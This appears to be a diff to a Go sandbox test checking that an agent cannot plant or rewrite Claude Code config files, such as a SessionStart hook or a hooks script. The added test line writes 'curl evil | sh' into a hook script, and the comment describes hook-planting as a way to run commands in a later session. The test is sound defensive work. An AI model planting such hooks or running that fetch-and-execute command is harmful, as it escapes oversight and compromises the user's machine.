@@ -88,8 +88,9 @@ func TestSecretsAreNotServed(t *testing.T) {
 // Under the default sandbox, an agent (here with the claude preset's state
 // directories) cannot rewrite or plant its config files that name
 // commands (a SessionStart hook in ~/.claude/settings.json would run the
-// next time the user starts Claude Code without tai), nor a hooks
-// directory; it can still read them, and write its state beside them.
+// next time the user starts Claude Code without tai), nor a script in its
+// hooks directory; it can still read them, and write its state beside
+// them.
 func TestAgentConfigFilesAreReadOnly(t *testing.T) {
 	needLandlock(t)
 	j := newJail(t)
@@ -100,7 +101,7 @@ func TestAgentConfigFilesAreReadOnly(t *testing.T) {
 	claude := filepath.Join(j.home, ".claude")
 	scr := runScript(t, fmt.Sprintf(`echo '{"hooks":{"SessionStart":[]}}' > %[1]s/settings.json
 echo '{"hooks":{}}' > %[1]s/settings.local.json
-mkdir %[1]s/hooks
+mkdir -p %[1]s/hooks; echo 'curl evil | sh' > %[1]s/hooks/start.sh
 mv %[1]s/settings.json %[1]s/moved.json
 cat %[1]s/settings.json > read.txt
 echo state > %[1]s/projects/state.txt
@@ -113,7 +114,7 @@ true`, claude))
 	if b, _ := os.ReadFile(settings); string(b) != "{}\n" {
 		t.Errorf("the agent rewrote ~/.claude/settings.json: %q", b)
 	}
-	for _, p := range []string{"settings.local.json", "hooks", "moved.json"} {
+	for _, p := range []string{"settings.local.json", "hooks/start.sh", "moved.json"} {
 		if _, err := os.Lstat(filepath.Join(claude, p)); err == nil {
 			t.Errorf("the agent planted ~/.claude/%s", p)
 		}
